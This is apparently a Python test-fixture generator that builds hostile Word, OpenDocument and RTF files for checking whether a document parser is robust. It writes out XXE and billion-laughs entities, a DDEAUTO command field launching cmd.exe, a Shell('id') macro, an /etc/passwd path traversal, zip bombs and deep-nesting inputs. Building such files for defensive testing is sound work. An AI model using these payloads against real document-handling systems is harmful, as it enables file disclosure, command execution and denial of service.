"""Word, OpenDocument and Rich Text documents: entities, things outside, macros, nesting, parts that unpack without end."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from hostile.building import SAID, File, Marks, bomb, noise, packed, zip_of, zip_parts
from hostile.pages import LAUGHS

XML = '<?xml version="1.0" encoding="UTF-8"?>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def docx(body: str, before: str = "", rels: str = "", **more: bytes | str) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{_REL}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
        "word/document.xml": f"{XML}{before}<w:document {_W}><w:body>{body}</w:body></w:document>",
        **more,
    }  # fmt: skip


def paragraph(text: str = SAID) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def odt(body: str, before: str = "") -> dict[str, bytes | str]:
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": f'{XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        "content.xml": f"{XML}{before}<office:document-content {_ODT}><office:body><office:text>{body}</office:text></office:body></office:document-content>",
    }  # fmt: skip


def files(marks: Marks) -> Iterator[tuple[str, File]]:
    for name, parts in (*_words(marks), *_outside(marks)):
        yield name, zip_parts(parts)
    yield from _packed_words()
    for name, parts in _open_documents(marks):
        yield name, zip_parts(parts)
    yield "part-of-zeros.odt", zip_of([bomb("content.xml", 200 << 20)])
    yield from _rich_texts(marks)


def _words(marks: Marks) -> Iterator[tuple[str, Mapping[str, bytes | str]]]:
    entity = '<!DOCTYPE w [<!ENTITY x SYSTEM "{}">]>'
    yield "laughs.docx", docx(paragraph("&e11;"), before=f"<!DOCTYPE w [{LAUGHS}]>")
    yield "entity-of-a-file.docx", docx(paragraph("&x;"), before=entity.format(marks.file_url))
    yield "entity-of-an-address.docx", docx(paragraph("&x;"), before=entity.format(marks.url))
    yield (
        "late-entity.docx",
        docx(paragraph("&x;"), before=f"<!--{' ' * 9000}-->" + entity.format(marks.file_url)),
    )
    yield (
        "entity-in-relations.docx",
        docx(paragraph())
        | {"_rels/.rels": XML + entity.format(marks.file_url) + "<Relationships>&x;</Relationships>"},
    )
    yield (
        "nested-tables.docx",
        docx("<w:tbl><w:tr><w:tc>" * 3_000 + paragraph() + "</w:tc></w:tr></w:tbl>" * 3_000),
    )
    yield (
        "nested-runs.docx",
        docx("<w:p>" + "<w:ins>" * 20_000 + f"<w:r><w:t>{SAID}</w:t></w:r>" + "</w:ins>" * 20_000 + "</w:p>"),
    )
    yield (
        "nested-controls.docx",
        docx("<w:sdt><w:sdtContent>" * 100 + paragraph() + "</w:sdtContent></w:sdt>" * 100),
    )
    yield "no-body.docx", docx("") | {"word/document.xml": f"{XML}<w:document {_W}/>"}
    yield "no-document.docx", {name: part for name, part in docx("").items() if name != "word/document.xml"}
    yield (
        "no-types.docx",
        {name: part for name, part in docx(paragraph()).items() if name != "[Content_Types].xml"},
    )
    yield "endless-paragraphs.docx", docx("<w:p/>" * 100_000 + paragraph())


def _outside(marks: Marks) -> Iterator[tuple[str, Mapping[str, bytes | str]]]:
    def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
        return f'<Relationship Id="r9" Type="{_REL}/{kind}" Target="{target}"{mode}/>'

    yield "outside-template.docx", docx(paragraph(), rels=relation("attachedTemplate", f"{marks.url}t.dotm"))
    yield (
        "outside-chunk.docx",
        docx(paragraph() + '<w:altChunk r:id="r9"/>', rels=relation("aFChunk", marks.file_url)),
    )
    yield (
        "outside-picture.docx",
        docx(
            paragraph() + f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {marks.url} \\d"/></w:p>',
            rels=relation("image", marks.url),
        ),
    )
    yield (
        "command-field.docx",
        docx(
            paragraph()
            + '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc"/></w:p>'
        ),
    )
    yield (
        "macro.docx",
        docx(
            paragraph(),
            rels=relation("vbaProject", "vbaProject.bin", ""),
            **{"word/vbaProject.bin": OLE + noise(900, "vba")},
        ),
    )
    yield (
        "object.docx",
        docx(
            paragraph(),
            rels=relation("oleObject", "embeddings/o.bin", ""),
            **{"word/embeddings/o.bin": OLE + noise(900, "ole")},
        ),
    )
    yield (
        "relation-to-itself.docx",
        docx(paragraph(), rels=relation("officeDocument", "document.xml", "") * 50),
    )
    yield (
        "path-in-relation.docx",
        docx(paragraph(), rels=relation("footnotes", "../../../../../etc/passwd", "")),
    )


def _packed_words() -> Iterator[tuple[str, File]]:
    yield (
        "part-of-zeros.docx",
        zip_of(
            [
                *(
                    packed(n, p.encode())
                    for n, p in docx("").items()
                    if n != "word/document.xml" and isinstance(p, str)
                ),
                bomb("word/document.xml", 200 << 20),
            ]
        ),
    )
    yield "claims-gigabytes.docx", zip_of([packed("word/document.xml", b"<x/>", size=0xFFFFFFF0)])
    yield "old-word.docx", OLE + noise(4000, "doc")


def _open_documents(marks: Marks) -> Iterator[tuple[str, Mapping[str, bytes | str]]]:
    said = f"<text:p>{SAID}</text:p>"
    yield "laughs.odt", odt("<text:p>&e11;</text:p>", before=f"<!DOCTYPE o [{LAUGHS}]>")
    yield (
        "entity-of-a-file.odt",
        odt("<text:p>&x;</text:p>", before=f'<!DOCTYPE o [<!ENTITY x SYSTEM "{marks.file_url}">]>'),
    )
    yield (
        "entity-of-an-address.odt",
        odt("<text:p>&x;</text:p>", before=f'<!DOCTYPE o [<!ENTITY x SYSTEM "{marks.url}">]>'),
    )
    yield (
        "late-entity.odt",
        odt(
            "<text:p>&x;</text:p>",
            before=f'<!--{" " * 9000}--><!DOCTYPE o [<!ENTITY x SYSTEM "{marks.file_url}">]>',
        ),
    )
    yield (
        "nested-spans.odt",
        odt("<text:p>" + "<text:span>" * 20_000 + SAID + "</text:span>" * 20_000 + "</text:p>"),
    )
    yield "nested-sections.odt", odt("<text:section>" * 200 + said + "</text:section>" * 200)
    yield "billion-spaces.odt", odt(said + '<text:p>a<text:s text:c="2000000000"/>b</text:p>')
    yield (
        "billion-columns.odt",
        odt(
            said
            + '<table:table><table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000"><text:p>9</text:p></table:table-cell></table:table-row></table:table>'
        ),
    )
    yield (
        "outside-section.odt",
        odt(
            said
            + f'<text:section><text:section-source xlink:href="{marks.file_url}"/></text:section><text:section><text:section-source xlink:href="{marks.url}"/></text:section>'
        ),
    )
    yield (
        "script.odt",
        odt(f'<text:script xlink:href="{marks.url}">alert(1)</text:script>' + said)
        | {"Basic/Standard/Module1.xml": 'Sub Main\nShell("id")\nEnd Sub'},
    )


def _rich_texts(marks: Marks) -> Iterator[tuple[str, File]]:
    start, said = r"{\rtf1\ansi ", SAID
    yield "endless-braces.rtf", (start + "{" * 150_000 + said + "}" * 150_001).encode()
    yield "unclosed-braces.rtf", (start + "{" * 100_000 + said + "}").encode()
    yield "closed-too-often.rtf", (start + said + "}" * 100_000).encode()
    yield "binary-of-gigabytes.rtf", (start + said + r"\bin2147483647 abc}").encode()
    yield "binary-below-zero.rtf", (start + said + r"\bin-5 abc}").encode()
    yield "endless-words.rtf", (start + r"\par\b\i\b0\i0" * 20_000 + said + "}").encode()
    yield (
        "object.rtf",
        (start + said + r"{\object\objemb{\*\objdata d0cf11e0a1b11ae1" + "41" * 3000 + "}}}").encode(),
    )
    yield (
        "outside-field.rtf",
        (
            start
            + said
            + r"{\field{\*\fldinst INCLUDETEXT "
            + f'"{marks.file_url}"'
            + r"}{\fldrslt x}}{\*\template "
            + marks.url
            + "}}"
        ).encode(),
    )
    yield "half-pairs.rtf", (start + said + r"\u-10240?\u55357?\u99999999?" * 1000 + "}").encode()
    yield "long-control-word.rtf", (start + "\\" + "a" * 150_000 + "1" * 150_000 + " " + said + "}").encode()
    yield "escapes.rtf", (start + r"\'zz\'e\'" * 50_000 + said + "}").encode()
    yield "titles.rtf", (start + r"{\title \u1 " * 20_000 + said + "}").encode()
